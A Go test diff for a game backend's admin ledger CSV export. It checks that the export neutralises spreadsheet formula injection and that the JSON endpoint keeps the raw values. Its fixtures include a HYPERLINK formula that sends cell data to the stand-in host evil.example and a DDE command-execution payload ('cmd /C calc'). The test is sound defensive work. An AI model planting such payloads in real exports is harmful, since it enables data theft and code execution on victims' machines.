@@ -369,3 +369,53 @@ func TestRobloxErasureWebhook(t *testing.T) {
 		t.Errorf("other event type: %d %s, want it acknowledged and ignored", r.status, r.body)
 	}
 }
+
+func TestLedgerExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	e := newAdminEnv(t)
+	const userID = 8601
+	hyperlink := `=HYPERLINK("https://evil.example/?d="&A1,"click")`
+	e.serverMutate(userID, `@SUM(A1:A9)`, `{"reason":`+mustJSON(t, hyperlink)+`,"ops":[{"op":"currency.add","currency":"coins","amount":-5}]}`)
+	e.serverMutate(userID, "-2+3", `{"reason":"-5","ops":[{"op":"currency.add","currency":"coins","amount":7}]}`)
+	e.serverMutate(userID, "k-3", `{"reason":"+cmd|' /C calc'!A0","ops":[{"op":"settings.set","key":"music","value":false}]}`)
+	e.serverMutate(userID, "k-4", "{\"reason\":\"\\tindented\\r\",\"ops\":[{\"op\":\"settings.set\",\"key\":\"music\",\"value\":true}]}")
+
+	r := e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?format=csv", userID), e.support.IDToken, nil)
+	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil || r.status != http.StatusOK || len(rows) != 5 {
+		t.Fatalf("csv export: %d %v %q", r.status, err, r.body)
+	}
+	col := map[string]int{}
+	for i, name := range rows[0] {
+		col[name] = i
+	}
+	type cells struct{ Version, Key, Reason, Ops string }
+	var got []cells
+	for _, row := range rows[1:] {
+		got = append(got, cells{row[col["version"]], row[col["idempotencyKey"]], row[col["reason"]], row[col["ops"]]})
+	}
+	want := []cells{
+		{"4", "k-4", "'\tindented\r", `[{"key":"music","op":"settings.set","value":true}]`},
+		{"3", "k-3", "'+cmd|' /C calc'!A0", `[{"key":"music","op":"settings.set","value":false}]`},
+		{"2", "'-2+3", "-5", `[{"amount":7,"currency":"coins","op":"currency.add"}]`},
+		{"1", "'@SUM(A1:A9)", "'" + hyperlink, `[{"amount":-5,"currency":"coins","op":"currency.add"}]`},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("exported cells, newest first (-want +got):\n%s", diff)
+	}
+	// The JSON page is data, not a spreadsheet: it keeps the values as sent.
+	r = e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?idempotencyKey=k-3", userID), e.support.IDToken, nil)
+	if !strings.Contains(string(r.body), `"reason":"+cmd|' /C calc'!A0"`) {
+		t.Errorf("JSON search changed the reason: %s", r.body)
+	}
+}
+
+// mustJSON encodes v as JSON text.
+func mustJSON(t *testing.T, v any) string {
+	t.Helper()
+	b, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
